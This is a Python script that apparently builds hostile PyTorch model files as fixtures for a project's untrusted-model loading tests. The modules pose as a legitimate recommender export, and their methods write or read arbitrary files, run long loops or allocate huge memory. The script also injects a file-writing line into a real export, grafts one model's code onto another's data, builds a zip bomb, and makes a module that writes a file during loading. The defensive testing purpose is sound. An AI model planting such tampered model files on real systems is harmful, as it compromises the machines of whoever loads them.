#!/usr/bin/env python3
"""Builds hostile torch archives for the untrusted-model tests (issue 13), with Debian's python3-torch.

  hostile_models.py modules OUTDIR WRITE_TARGET READ_TARGET
      OUTDIR/{write,read,loop,alloc}.pt: TorchScript modules that look like a Tiltbench export (item_ids,
      item_titles, recommend(history, k)) and whose recommend() creates/overwrites WRITE_TARGET
      (torch.from_file(path, True, n)), reads READ_TARGET (torch.from_file(path, False, n)), loops for a long
      time, or allocates a terabyte.
  hostile_models.py tamper EXPORT OUT TARGET
      OUT: a copy of a real Tiltbench TorchScript export whose code record has one more line in recommend():
      a torch.from_file(TARGET, True, n) that creates TARGET.
  hostile_models.py graft CODE_FROM DATA_FROM OUT
      OUT: CODE_FROM's records (code, constants, versions, extra/) with DATA_FROM's data.pkl and data/N — an
      export whose code is exactly the exporter's but whose tensors are another file's (re-saving a loaded
      module re-prints its code, which the code check alone would refuse).
  hostile_models.py bomb OUT
      OUT: a zip file shaped like a torch archive whose deflated data.pkl inflates to 80 MiB of zeros.
  hostile_models.py blob OUT TARGET
      OUT: a torch archive (what a checkpoint blob used to be) of a module whose __setstate__ — run by
      torch.jit.load / torch::serialize::InputArchive while loading — creates TARGET.
"""
import sys
import zipfile
from typing import List, Tuple

import torch


class LookAlike(torch.nn.Module):
    def __init__(self, target: str):
        super().__init__()
        self.item_ids: List[str] = ["1", "2", "3"]
        self.item_titles: List[str] = ["a", "b", "c"]
        self.target = target

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x


class WriteFile(LookAlike):
    @torch.jit.export
    def recommend(self, history: List[str], k: int = 10) -> Tuple[List[str], List[float]]:
        t = torch.from_file(self.target, True, 64, dtype=torch.uint8)
        t.fill_(35)
        return ["1"], [float(t.sum())]  # used, so the interpreter cannot drop the call


class ReadFile(LookAlike):
    @torch.jit.export
    def recommend(self, history: List[str], k: int = 10) -> Tuple[List[str], List[float]]:
        t = torch.from_file(self.target, False, 8, dtype=torch.uint8)
        return [str(int(t[0]))], [1.0]


class LongLoop(LookAlike):
    @torch.jit.export
    def recommend(self, history: List[str], k: int = 10) -> Tuple[List[str], List[float]]:
        i = 0
        while i < 100000000:
            i += 1
        return [str(i)], [1.0]


class HugeAllocation(LookAlike):
    @torch.jit.export
    def recommend(self, history: List[str], k: int = 10) -> Tuple[List[str], List[float]]:
        x = torch.empty([1 << 40], dtype=torch.uint8)
        x.fill_(1)
        return ["1"], [float(x[0])]


class SetStateWritesFile(torch.nn.Module):
    def __init__(self, target: str):
        super().__init__()
        self.weight = torch.zeros(2)
        self.target = target

    def forward(self, x: torch.Tensor) -> torch.Tensor:
        return x

    @torch.jit.export
    def __getstate__(self) -> Tuple[torch.Tensor, str, bool]:
        return (self.weight, self.target, self.training)

    @torch.jit.export
    def __setstate__(self, state: Tuple[torch.Tensor, str, bool]) -> None:
        t = torch.from_file(state[1], True, 16, dtype=torch.uint8)
        t.fill_(35)
        self.weight = state[0] + t.sum().float() * 0.0  # used, so the interpreter cannot drop the call
        self.target = state[1]
        self.training = state[2]


def tamper(export: str, out: str, target: str) -> None:
    with zipfile.ZipFile(export) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as dst:
        done = False
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename.endswith("code/__torch__/tiltbench.py"):
                text = data.decode()
                head = text.index("  def recommend(")
                body = text.index(":\n", head) + 2
                line = f'    _evil = torch.from_file("{target}", True, 64, dtype=0)\n'
                line += '    print(torch.sum(_evil))\n'
                text = text[:body] + line + text[body:]
                data = text.encode()
                done = True
            dst.writestr(info.filename, data)
        if not done:
            sys.exit("tamper: no code/__torch__/tiltbench.py record in " + export)


def graft(code_from: str, data_from: str, out: str) -> None:
    def is_data(name: str) -> bool:
        rel = name.split("/", 1)[1]
        return rel == "data.pkl" or rel.startswith("data/")

    with zipfile.ZipFile(code_from) as c, zipfile.ZipFile(data_from) as d, \
            zipfile.ZipFile(out, "w", zipfile.ZIP_STORED) as o:
        prefix = c.namelist()[0].split("/", 1)[0]
        for info in c.infolist():
            if not is_data(info.filename):
                o.writestr(info.filename, c.read(info.filename))
        for info in d.infolist():
            if is_data(info.filename):
                o.writestr(prefix + "/" + info.filename.split("/", 1)[1], d.read(info.filename))


def main() -> None:
    mode = sys.argv[1]
    if mode == "modules":
        out, write_target, read_target = sys.argv[2:5]
        torch.jit.save(torch.jit.script(WriteFile(write_target)), f"{out}/write.pt")
        torch.jit.save(torch.jit.script(ReadFile(read_target)), f"{out}/read.pt")
        torch.jit.save(torch.jit.script(LongLoop("")), f"{out}/loop.pt")
        torch.jit.save(torch.jit.script(HugeAllocation("")), f"{out}/alloc.pt")
    elif mode == "tamper":
        tamper(*sys.argv[2:5])
    elif mode == "graft":
        graft(*sys.argv[2:5])
    elif mode == "bomb":
        with zipfile.ZipFile(sys.argv[2], "w", zipfile.ZIP_DEFLATED) as z:
            z.writestr("archive/version", "3\n")
            z.writestr("archive/data.pkl", bytes(80 << 20))
    elif mode == "blob":
        out, target = sys.argv[2:4]
        torch.jit.save(torch.jit.script(SetStateWritesFile(target)), out)
    else:
        sys.exit("unknown mode " + mode)


if __name__ == "__main__":
    main()
